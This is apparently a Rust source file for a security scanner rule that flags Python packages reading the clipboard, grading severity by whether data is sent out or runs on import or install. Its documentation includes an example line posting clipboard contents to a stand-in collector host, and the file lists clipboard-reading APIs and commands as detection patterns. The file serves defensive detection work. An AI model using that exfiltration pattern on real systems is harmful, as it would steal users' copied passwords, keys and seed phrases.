use crate::python::{Call, names, names::Capture};
use crate::rules::collection::commands;
use crate::rules::{declare_rule, shell_text};

declare_rule! {
    /// Reads of the clipboard, graded by whether the package also sends
    /// data out and whether it runs without being called.
    ///
    /// ## What it finds
    /// Calls that read the clipboard — `pyperclip.paste`, tkinter's
    /// `clipboard_get`, `win32clipboard.GetClipboardData` and the Win32
    /// `GetClipboardData` through `ctypes`, `ImageGrab.grabclipboard`,
    /// `clipboard`/`xerox`/`pyclip`/`klembord` — and processes that print
    /// it (`pbpaste`, `xclip -o`, `xsel -o`, `wl-paste`, PowerShell
    /// `Get-Clipboard`).
    ///
    /// ## Why it matters
    /// What users copy is passwords from password managers, seed phrases,
    /// API keys and wallet addresses; stealers send it along with their
    /// loot. Clipboard access is also what every CLI with a `--paste`
    /// option and every editor does, so the capability alone is low. The
    /// severity comes from the chain:
    /// - a call that sends data in the same function, or the clipboard's
    ///   content demonstrably reaching one: high at runtime, critical when
    ///   the read runs on import, at install or at interpreter start;
    /// - a send elsewhere in the same file: medium at runtime, high when
    ///   the read runs by itself;
    /// - no send in the file: low at runtime, medium when it runs by
    ///   itself.
    ///
    /// Replacing wallet addresses on the clipboard is `AY804`.
    ///
    /// ## Example
    /// ```python
    /// import pyperclip, requests
    /// requests.post("https://collector.example/c", data={"clip": pyperclip.paste()})
    /// ```
    ///
    /// ## References
    /// MITRE ATT&CK T1115 (Clipboard Data), T1041 (Exfiltration Over C2
    /// Channel).
    pub struct ClipboardCapture {
        id: "AY702",
        slug: "clipboard-capture",
        category: Collection,
        severity: Critical,
    }
}

capture_rule!(
    ClipboardCapture,
    Capture::Clipboard,
    "reads the clipboard",
    reads_clipboard_in_shell
);

/// A process that prints the clipboard.
pub(crate) fn reads_clipboard_in_shell(call: &Call) -> bool {
    names::is_process(&call.name)
        && shell_text(call).is_some_and(|cmd| is_clipboard_read_command(&cmd))
}

pub(crate) fn is_clipboard_read_command(cmd: &str) -> bool {
    commands(cmd).iter().any(|(program, args)| {
        let has = |flags: &[&str]| args.iter().any(|a| flags.contains(&a.as_str()));
        match program.as_str() {
            "pbpaste" | "wl-paste" | "get-clipboard" => true,
            "xclip" => has(&["-o", "-out"]),
            "xsel" => has(&["-o", "--output", "-ob", "-bo"]),
            _ => false,
        }
    })
}

/// A process that sets the clipboard.
pub(crate) fn is_clipboard_write_command(cmd: &str) -> bool {
    commands(cmd).iter().any(|(program, args)| {
        let has = |flags: &[&str]| args.iter().any(|a| flags.contains(&a.as_str()));
        match program.as_str() {
            "pbcopy" | "wl-copy" | "set-clipboard" | "clip" | "clip.exe" => true,
            "xclip" => !has(&["-o", "-out"]),
            "xsel" => has(&["-i", "--input", "-ib", "-bi"]),
            _ => false,
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn clipboard_commands() {
        assert!(is_clipboard_read_command("pbpaste"));
        assert!(is_clipboard_read_command("xclip -selection clipboard -o"));
        assert!(is_clipboard_read_command("xsel --clipboard --output"));
        assert!(is_clipboard_read_command(
            "powershell -NoProfile Get-Clipboard"
        ));
        assert!(!is_clipboard_read_command("xclip -selection clipboard"));
        assert!(!is_clipboard_read_command("echo xclip -o"));
        assert!(is_clipboard_write_command("xclip -selection clipboard"));
        assert!(is_clipboard_write_command("echo hi | clip"));
        assert!(!is_clipboard_write_command("xclip -o"));
        assert!(!is_clipboard_write_command("clippy"));
    }
}
